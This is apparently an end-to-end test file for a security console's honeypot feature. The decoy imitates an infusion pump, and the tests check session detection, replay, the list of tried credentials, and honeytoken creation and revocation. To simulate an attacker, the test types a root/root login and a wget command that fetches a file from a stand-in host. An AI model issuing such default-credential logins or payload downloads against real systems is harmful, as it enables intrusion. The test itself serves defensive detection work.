import { connect } from 'node:net';
import { join } from 'node:path';
import { setTimeout as pause } from 'node:timers/promises';
import { describe, expect, it } from 'vitest';
import { freePort } from '../probing/lab.ts';
import { accessibilityViolations } from './accessibility.ts';
import { consoleOfThisFile, follow } from './console-user.ts';

const PICTURES = process.env.SPHINX_TEST_SCREENSHOTS;
const { console, page } = await consoleOfThisFile();

/** The page in light on a desk and in dark on a tablet. */
async function picture(name: string): Promise<void> {
  if (PICTURES === undefined) return;
  await page.screenshot({ path: join(PICTURES, `${name}.png`), fullPage: true });
  await page.emulateMedia({ colorScheme: 'dark' });
  await page.setViewportSize({ width: 820, height: 1180 });
  await page.screenshot({ path: join(PICTURES, `${name}-dark-820.png`), fullPage: true });
  expect(await accessibilityViolations(page)).toEqual([]);
  await page.setViewportSize({ width: 1280, height: 800 });
  await page.emulateMedia({ colorScheme: 'light' });
}

/** Somebody types into the maintenance shell, key by key. */
async function visit(port: number): Promise<void> {
  const socket = connect(port, '127.0.0.1').resume();
  const closed = new Promise((done) => socket.on('close', done));
  for (const line of ['root', 'root', 'wget http://203.0.113.5/x', 'exit']) {
    for (const key of `${line}\r`) {
      socket.write(key);
      await pause(10 + key.charCodeAt(0));
    }
    await pause(200);
  }
  await closed;
}

describe('decoys, in a real browser', () => {
  let offset = 0;

  it('are off until somebody switches them on, and are set up on an address', async () => {
    await follow(page, '/decoys');
    await page.getByRole('heading', { name: 'Decoys is off' }).waitFor();
    await follow(page, '/toolbox');
    await page.getByRole('switch', { name: 'Decoys is on' }).click({ force: true });
    await follow(page, '/decoys');
    await page.getByRole('heading', { name: 'No decoy stands in the network' }).waitFor();
    offset = (await freePort()) - 80;
    await page.getByRole('combobox', { name: 'Pretends to be' }).click();
    await page.getByRole('option', { name: 'Infusion pump' }).click();
    await page.getByRole('textbox', { name: 'Addresses' }).fill('127.0.0.1');
    await page.getByRole('textbox', { name: 'Added to ports' }).fill(String(offset));
    await page.getByRole('button', { name: 'Set up' }).click();
    await page.getByRole('row', { name: /Infusion pump.*Listening/ }).waitFor();
    await page.getByRole('button', { name: 'Adapt' }).click();
    await page.getByText('The network shows no custom of naming such machines.').waitFor();
    await page.getByRole('row', { name: /Infusion pump.*Listening/ }).waitFor();
    expect(await accessibilityViolations(page)).toEqual([]);
    await picture('decoys');
  });

  it('show who came while it happens, why that is thought, and the terminal again', async () => {
    await page.getByRole('tab', { name: 'Who came' }).click();
    await visit(23 + offset);
    const row = page.getByRole('row', { name: /127\.0\.0\.1.*A program that attacks.*critical/ });
    await row.waitFor();
    expect(await accessibilityViolations(page)).toEqual([]);
    await picture('decoy-sessions');
    await row.getByRole('button', { name: /Look at the visit/ }).click();
    await page.getByText('told to fetch http://203.0.113.5/x; it was not').waitFor();
    await page.getByRole('button', { name: 'Play' }).click();
    await page.getByRole('log').getByText('Connecting to 203.0.113.5:80').waitFor();
    expect(await accessibilityViolations(page)).toEqual([]);
    await picture('decoy-session');
    await page.keyboard.press('Escape');
  });

  it('list passwords that were tried, and values to plant', async () => {
    await follow(page, '/decoys?view=credentials');
    await page.getByRole('row', { name: /root.*root.*telnet/ }).waitFor();
    await page.getByRole('tab', { name: 'Honeytokens' }).click();
    await page.getByRole('textbox', { name: 'Where it is planted' }).fill('notes of IT');
    await page.getByRole('button', { name: 'Make' }).click();
    const row = page.getByRole('row', { name: /Account.*notes of IT/ });
    await row.getByText(/^password: /).waitFor();
    expect(await accessibilityViolations(page)).toEqual([]);
    await picture('honeytokens');
    await row.getByRole('button', { name: 'Revoke' }).click();
    await page.getByRole('dialog').getByRole('button', { name: 'Revoke' }).click();
    await row.getByText('revoked').waitFor();
    expect(console.faults).toEqual([]);
  });
});
